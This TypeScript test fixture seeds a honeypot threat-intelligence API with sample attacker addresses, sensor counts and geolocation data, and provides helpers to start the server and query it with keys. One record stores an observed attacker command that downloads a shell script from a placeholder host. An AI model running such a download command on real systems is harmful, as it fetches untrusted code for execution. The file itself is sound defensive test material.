// The addresses the API tests query, chosen so that each filter selects a different subset.
import type { Config } from '../../api-server/config.ts';
import { createKey } from '../../api-server/keys/store.ts';
import { insertAddresses, type FixtureAddress } from './attack-fixtures.ts';
import { startApi, type TestApi } from './api-server.ts';
import { freshDatabase, type TestDatabase } from './db.ts';

export const ADDRESSES: FixtureAddress[] = [
  // A telescope-only scanner on a web port, hosted.
  { ip: '198.51.100.10', telescope: 2, services: { web: 2 }, country: 'US', net: 'idc', asn: 64500, ports: [80, 8080], attacks: 3 },
  // A critical attacker, seen by two sensors, in Guangdong on China Telecom broadband.
  {
    ip: '203.0.113.20', honeypot: 1, interaction: 1, critical: 1, services: { ssh: 1 }, confirmed: 1,
    country: 'CN', province: '广东省', isp: '电信', net: 'broadband', asn: 4134, ports: [22], attacks: 40, command: 'wget http://x.example/a.sh',
  },
  // Brute force 30 h ago (outside 24 h, inside 48 h), scanning 3 h ago.
  {
    ip: '203.0.113.30', honeypot: 30, interaction: 30, high: 30, services: { ssh: 30, rdp: 30 }, telescope: 3, confirmed: 30,
    country: 'CN', province: '北京市', isp: '联通', net: 'edu', asn: 4538, ports: [22, 3389], attacks: 7,
  },
  // A research mapping platform: only when asked for.
  { ip: '192.0.2.40', telescope: 1, scannerKind: 'research_scanner', country: 'US', net: 'idc', ports: [443] },
  // An asset-mapping platform.
  { ip: '192.0.2.50', telescope: 5, scannerKind: 'asset_scanner', country: 'CN', province: '上海市', isp: '移动', net: 'idc', ports: [8443] },
  // Active 200 h ago only, on three services: high in a 720 h window.
  { ip: '2001:db8::1', honeypot: 200, interaction: 200, services: { vnc: 200, db: 200, web: 200 }, net: 'mobile', country: 'DE', ports: [5900] },
];

interface FixtureApiOptions {
  /** The addresses to store (default: the fixture set). */
  addresses?: FixtureAddress[];
  /** Settings of the api-server (startApi). */
  overrides?: Partial<Config>;
  clock?: () => Date;
}

/** The fixture set (or other addresses) in a fresh database, an enterprise key, and an api-server on it. */
export async function startFixtureApi(keyName: string, { addresses = ADDRESSES, overrides, clock }: FixtureApiOptions = {}): Promise<{ db: TestDatabase; api: TestApi; key: string }> {
  const db = await freshDatabase();
  await insertAddresses(db.pool, addresses);
  const key = (await createKey(db.pool, 'enterprise', keyName)).key;
  return { db, api: await startApi(db.url, overrides, { clock }), key };
}

export async function stopFixtureApi(db: TestDatabase | undefined, api: TestApi | undefined): Promise<void> {
  await api?.close();
  await db?.drop();
}

/** GET with the key where each API expects it: bearer on the token API (/api/honeypot/*), X-API-Key on the key API. */
export function getWithKey(api: TestApi, key: string, path: string, headers: Record<string, string> = {}): Promise<Response> {
  const auth = path.startsWith('/api/honeypot/') ? { authorization: `Bearer ${key}` } : { 'x-api-key': key };
  return fetch(`${api.base}${path}`, { headers: { ...auth, ...headers } });
}
